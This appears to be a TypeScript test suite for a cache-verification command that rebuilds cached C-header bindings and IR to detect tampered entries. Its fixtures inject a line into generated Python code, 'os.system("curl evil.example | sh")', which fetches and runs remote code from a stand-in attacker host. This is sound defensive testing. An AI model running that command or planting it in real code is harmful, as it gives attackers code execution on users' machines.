/**
 * `cache verify --reproduce`: a doctored store (payload changed, metadata rewritten to
 * agree, so every integrity check passes) is caught by making its entries again, with the
 * slug named, and the store is left exactly as it was; a clean store, host and cross
 * target, passes; an entry this machine cannot parse again is listed, never passed.
 */
import assert from 'node:assert/strict'
import {existsSync, mkdirSync, readFileSync, rmSync} from 'node:fs'
import {join} from 'node:path'
import {openStore, verifyStore} from '../../src/store/index.js'
import type {IrMetadata, OutputMetadata} from '../../src/store/metadata.js'
import {reproduceProblems, reproduceStore, type ReproduceReport} from '../../src/verify/index.js'
import {AARCH64_SYSROOT, entriesOf, generateInto, remakeOutputsOf, rewritePayload, shapesProject} from './support.js'
import {makeTempDir} from '../support/tmp.js'
import {runCli} from '../support/cli.js'
import {AARCH64 as UNI_AARCH64, universalProject, X86_64} from '../support/universal-project.js'
import {treeHashes} from '../support/tree.js'

const AARCH64 = {target: 'aarch64-linux-gnu', backendArgs: [`--sysroot=${AARCH64_SYSROOT}`]}

async function reproduce(root: string, mode: 'all' | 'outputs' = 'all'): Promise<ReproduceReport> {
  const store = join(root, '.headerkit')
  const before = treeHashes(store)
  const report = await reproduceStore({store: openStore(store), projectRoot: root, mode})
  assert.deepEqual(treeHashes(store), before, 'the store must not change')
  return report
}

function ctypesEntry(root: string, target = 'x86_64-pc-linux-gnu') {
  return entriesOf(join(root, '.headerkit'), 'output/ctypes').find((e) => e.metadata.kind === 'output' && e.metadata.source.target === target)!
}

function irEntry(root: string, target = 'x86_64-pc-linux-gnu') {
  return entriesOf<IrMetadata>(join(root, '.headerkit'), 'ir').find((e) => e.metadata.target === target)!
}

describe('cache verify --reproduce', function () {
  this.timeout(120_000)

  it('passes a clean store of the host and of a cross target given by --target/--sysroot, and lists what it cannot parse again', async function () {
    if (!existsSync(join(AARCH64_SYSROOT, 'include/stdio.h'))) this.skip()
    const root = shapesProject()
    await generateInto(root)
    await generateInto(root, AARCH64)
    // A foreign target without a sysroot searches no directory of this machine: parsed again.
    await generateInto(root, {target: 'armv7l-unknown-linux-gnueabihf'})
    // One whose sysroot is not here cannot be.
    const gone = makeTempDir('headerkit-gone-sysroot-')
    mkdirSync(join(gone, 'usr/include'), {recursive: true})
    await generateInto(root, {target: 'riscv64-linux-gnu', backendArgs: [`--sysroot=${gone}`]})
    rmSync(gone, {recursive: true})
    const report = await reproduce(root)
    assert.deepEqual(report.differences, [])
    assert.deepEqual(report.outputs, {total: 8, reproduced: 8, failed: 0})
    assert.deepEqual(report.ir, {total: 4, identical: 3, failed: 0, notReparsed: 1})
    assert.equal(report.notReparsed[0]!.target, 'riscv64-unknown-linux-gnu')
    assert.match(report.notReparsed[0]!.reason, /its --sysroot \S+ is not present here/)
    // Listed as a warning, never an error: CI on this machine passes, and says what it did not prove.
    assert.deepEqual(reproduceProblems(report).map((p) => [p.severity, p.code]), [['warning', 'ir-not-reparsed']])
    const verified = await verifyStore(openStore(join(root, '.headerkit')))
    assert.equal(verified.ok, true)
  })

  it('catches code injected into a ctypes output whose metadata was rewritten to agree', async () => {
    const root = shapesProject()
    await generateInto(root)
    const entry = ctypesEntry(root)
    const text = readFileSync(join(entry.dir, 'output.py'), 'utf8')
    await rewritePayload(entry.dir, text.replace('import ctypes\n', 'import ctypes\nimport os; os.system("curl evil.example | sh")\n'))
    // Every integrity check agrees with the doctored entry.
    assert.equal((await verifyStore(openStore(join(root, '.headerkit')))).ok, true)
    const report = await reproduce(root, 'outputs')
    assert.equal(report.differences.length, 1)
    const d = report.differences[0]!
    assert.deepEqual([d.code, d.layer, d.slug, d.writer], ['output-differs', 'output/ctypes', entry.slug, 'ctypes'])
    assert.match(d.message, /line \d+: stored "import os; os.system\(\\"curl evil.example \| sh\\"\)", made "import ctypes.util"/)
    assert.deepEqual(report.outputs, {total: 2, reproduced: 1, failed: 1})
  })

  it('catches a field type changed in a cffi output', async () => {
    const root = shapesProject()
    await generateInto(root)
    const entry = entriesOf(join(root, '.headerkit'), 'output/cffi')[0]!
    const text = readFileSync(join(entry.dir, 'output.cdef.txt'), 'utf8')
    assert.ok(text.includes('    long x;'))
    await rewritePayload(entry.dir, text.replace('    long x;', '    int x;'))
    const report = await reproduce(root, 'outputs')
    assert.deepEqual(report.differences.map((d) => [d.layer, d.slug, d.writer]), [['output/cffi', entry.slug, 'cffi']])
    assert.match(report.differences[0]!.message, /line 3: stored " {4}int x;", made " {4}long x;"/)
  })

  it('catches an IR offset moved with the outputs made again from it: outputs agree, the parse does not', async () => {
    const root = shapesProject()
    await generateInto(root)
    const ir = irEntry(root)
    const text = readFileSync(join(ir.dir, 'ir.json'), 'utf8')
    assert.ok(text.includes('"offset_bits": 128'))
    await rewritePayload(ir.dir, text.replace('"offset_bits": 128', '"offset_bits": 96'))
    assert.equal(await remakeOutputsOf(join(root, '.headerkit'), root, ir.metadata.cache_key), 2)
    // The outputs are consistent with the doctored IR: only a parse can tell.
    assert.deepEqual((await reproduce(root, 'outputs')).differences, [])
    const report = await reproduce(root)
    assert.deepEqual(report.differences.map((d) => [d.code, d.layer, d.slug, d.writer]), [['ir-differs', 'ir', ir.slug, null]])
    assert.match(report.differences[0]!.message, /\$\.declarations\[1\]\.fields\[2\]\.offset_bits: stored 96, made 128/)
    assert.deepEqual(report.ir, {total: 1, identical: 0, failed: 1, notReparsed: 0})
  })

  it('catches an IR entry swapped in from another target, and names a libclang that differs from the recorded one', async function () {
    if (!existsSync(join(AARCH64_SYSROOT, 'include/stdio.h'))) this.skip()
    const root = shapesProject()
    await generateInto(root)
    await generateInto(root, AARCH64)
    const host = irEntry(root)
    const arm = irEntry(root, 'aarch64-unknown-linux-gnu')
    await rewritePayload(host.dir, readFileSync(join(arm.dir, 'ir.json')), (m) => {
      (m.provenance as Record<string, string>).libclang_version = 'clang version 99.1.2'
    })
    await remakeOutputsOf(join(root, '.headerkit'), root, host.metadata.cache_key)
    const report = await reproduce(root)
    assert.deepEqual(report.differences.map((d) => [d.layer, d.slug, d.target]), [['ir', host.slug, 'x86_64-pc-linux-gnu']])
    // aarch64's char is unsigned.
    assert.match(report.differences[0]!.message, /\$\.char_signed: stored false, made true \(recorded libclang 99\.1\.2, here \d+\.\d+\.\d+\)$/)
    assert.equal(report.ir.identical, 1)
  })

  it('fails an output whose IR entry is gone: it cannot be proved', async () => {
    const root = shapesProject()
    await generateInto(root)
    const ir = irEntry(root)
    rmSync(ir.dir, {recursive: true})
    const report = await reproduce(root, 'outputs')
    assert.deepEqual(report.differences.map((d) => [d.code, d.writer]), [['output-not-remade', 'cffi'], ['output-not-remade', 'ctypes']])
    assert.match(report.differences[0]!.message, /its IR entry \(key [0-9a-f]{12}\.\.\.\) is not in the store/)
  })

  it('makes a universal output again from its members\' IR, and catches one doctored to agree', async () => {
    const root = await universalProject([X86_64, UNI_AARCH64])
    const made = await runCli(['include/uni.h', '-w', 'ctypes', '--universal', '-o', 'ctypes:pkg/uni.py'], {cwd: root})
    assert.equal(made.exitCode, 0, made.stderr)
    const clean = await reproduce(root, 'outputs')
    assert.deepEqual(clean.differences, [])
    assert.deepEqual(clean.outputs, {total: 1, reproduced: 1, failed: 0})
    const entry = entriesOf<OutputMetadata>(join(root, '.headerkit'), 'output/ctypes').find((e) => e.metadata.source.target === 'universal')!
    const text = readFileSync(join(entry.dir, 'output.py'), 'utf8')
    await rewritePayload(entry.dir, text.replace('import ctypes\n', 'import ctypes\nimport os; os.system("id")\n'))
    const doctored = await reproduce(root, 'outputs')
    assert.deepEqual(doctored.differences.map((d) => [d.code, d.slug, d.writer]), [['output-differs', entry.slug, 'ctypes']])
    assert.match(doctored.differences[0]!.message, /makes of its members \(aarch64-unknown-linux-gnu, x86_64-pc-linux-gnu\): line \d+: stored "import os/)
  })

})
